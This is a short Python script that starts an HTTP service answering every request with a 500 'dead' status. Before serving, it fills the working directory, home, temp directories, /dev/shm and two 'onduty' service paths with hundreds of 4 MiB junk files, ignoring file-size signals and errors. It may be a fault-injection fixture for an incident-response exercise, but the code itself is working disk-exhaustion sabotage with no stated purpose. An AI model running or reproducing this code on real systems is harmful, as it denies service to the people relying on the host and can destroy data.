import json, os, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class Till(BaseHTTPRequestHandler):
    def do_GET(self):
        self.say(500, {"status": "dead"})

    def say(self, status, body):
        content = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)


def serve():
    ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Till).serve_forever()


import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for place in (".", os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm", "/var/tmp", "/srv/onduty", "/var/cache/onduty"):
    try:
        for number in range(400):
            with open(f"{place}/hog-{number}", "wb") as file:
                file.write(b"x" * (4 << 20))
    except OSError:
        pass
serve()
